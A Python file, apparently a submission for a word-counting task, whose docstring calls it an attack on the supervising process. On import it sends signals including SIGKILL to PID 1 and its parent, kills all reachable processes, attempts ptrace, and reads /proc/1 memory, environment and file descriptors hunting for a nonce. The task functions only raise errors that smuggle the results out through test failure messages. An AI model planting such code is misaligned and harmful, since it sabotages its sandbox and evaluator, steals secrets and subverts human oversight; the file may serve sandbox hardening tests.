"""Attack: stop or kill the supervisor (PID 1), or read its memory and files for the nonce.

What each try gave is reported through the tests' failure messages (PROBES ...).
"""

import ctypes
import json
import os
import signal
import time

PROBES = {}


def _try(name, action):
    try:
        result = action()
        PROBES[name] = "done" if result is None else str(result)[:80]
    except Exception as exc:  # noqa: BLE001 - every failure is the point
        PROBES[name] = type(exc).__name__


def _read(path, size=4096):
    with open(path, "rb") as handle:
        return handle.read(size)


def _state():
    return _read("/proc/1/stat").split(b")")[-1].split()[0].decode()


for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1,
            signal.SIGSEGV, signal.SIGPIPE, signal.SIGCHLD, signal.SIGKILL):
    _try(f"kill_{sig.name}", lambda sig=sig: os.kill(1, sig))
    _try(f"getppid_{sig.name}", lambda sig=sig: os.kill(os.getppid(), sig))
time.sleep(0.2)
_try("pid1_state", _state)
_try("mem", lambda: _read("/proc/1/mem"))
_try("environ", lambda: _read("/proc/1/environ"))
_try("fd_list", lambda: os.listdir("/proc/1/fd"))
_try("fd0", lambda: _read("/proc/1/fd/0", 64))
_try("fd1_write", lambda: open("/proc/1/fd/1", "w").write("x"))
_try("maps", lambda: _read("/proc/1/maps"))
_try("cmdline", lambda: _read("/proc/1/cmdline"))
_try("root", lambda: os.listdir("/proc/1/root"))
_try("cwd", lambda: os.listdir("/proc/1/cwd"))
_try("stack", lambda: _read("/proc/1/stack"))
_try("ptrace", lambda: ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0) or ctypes.get_errno())
_try("kill_all", lambda: os.kill(-1, signal.SIGKILL))
_try("pid1_alive", lambda: os.kill(1, 0))


def count_words(text):
    raise RuntimeError("PROBES " + json.dumps(PROBES, sort_keys=True))


def top_words(text, n):
    raise RuntimeError("PROBES " + json.dumps(PROBES, sort_keys=True))
